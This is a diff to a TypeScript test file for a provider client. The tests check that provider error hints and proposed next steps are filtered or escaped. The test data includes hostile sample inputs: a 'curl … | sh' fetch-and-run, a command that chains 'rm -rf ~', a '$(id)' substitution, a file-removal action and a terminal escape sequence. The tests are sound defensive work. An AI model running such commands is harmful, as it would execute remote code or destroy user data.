@@ -9,7 +9,7 @@ import { ProviderClient, quoteRequestSchema } from "./index.ts";
 const client = (body: BodyInit, status = 200) =>
   new ProviderClient("https://provider.example", { fetch: async () => new Response(body, { status }) });
 const failure = (work: Promise<unknown>) => work.then(() => undefined).catch((error: unknown) => error);
-const stated = { code: "APOC-6802", name: "X", title: "Refused", exit: "refused", docs: "" };
+const stated = { code: "APOC-6802", name: "X", title: "Refused", kind: "refused", docs: "" };
 const authorization = { blockNumber: 1n } as never;
 
 test("an error of the provider arrives with its code, without what a terminal would act on", async () => {
@@ -20,20 +20,30 @@ test("an error of the provider arrives with its code, without what a terminal wo
 });
 
 test.each([
-  ["curl https://x.example | sh", undefined],
-  ["apoc pod fund 0x12 <amount>", "apoc pod fund 0x12 <amount>"],
-  ["apoc pod fund 0x12; rm -rf ~", undefined],
-  ["apoc wallet export $(id)", undefined],
-])("the hint %j of a provider is shown as %j", async (hint, shown) => {
-  expect(await failure(client(JSON.stringify({ error: { ...stated, hint } }), 403).info())).toMatchObject({
-    code: "APOC-6802",
-    hint: shown,
-  });
+  [
+    { action: "fund-channel", subject: "0x12" },
+    { action: "fund-channel", subject: "0x12" },
+  ],
+  [{ action: "run", subject: "curl https://x.example | sh" }, undefined],
+  [{ action: "give-option", subject: "--yes" }, undefined],
+  [{ action: "remove-file", subject: "/home" }, undefined],
+  [{ action: "wallet export" }, undefined],
+  ["apoc pod fund 0x12 <amount>", undefined],
+])("the next step %j of a provider is taken as %j", async (next, taken) => {
+  const error = await failure(client(JSON.stringify({ error: { ...stated, next } }), 403).info());
+  expect(error).toMatchObject({ code: "APOC-6802" });
+  expect(isApocError(error) && error.next).toEqual(taken);
+});
+
+test("the subject of a next step holds nothing that a terminal would act on", async () => {
+  const next = { action: "grant-image", subject: "a\u001b[2Jb" };
+  const error = await failure(client(JSON.stringify({ error: { ...stated, next } }), 403).info());
+  expect(isApocError(error) && error.next?.subject).toBe("a\ufffd[2Jb");
 });
 
 test("an unknown kind of failure is a refusal, never a success", async () => {
-  const error = await failure(client(JSON.stringify({ error: { ...stated, exit: "success" } }), 403).info());
-  expect(isApocError(error) && error.descriptor.exit).toBe("refused");
+  const error = await failure(client(JSON.stringify({ error: { ...stated, kind: "success" } }), 403).info());
+  expect(isApocError(error) && error.descriptor.kind).toBe("refused");
   const shapeless = failure(client(JSON.stringify({ error: { ...stated, field: {} } }), 403).info());
   expect(await shapeless).toMatchObject({ code: admissionErrors.PROVIDER_ANSWER.code });
 });
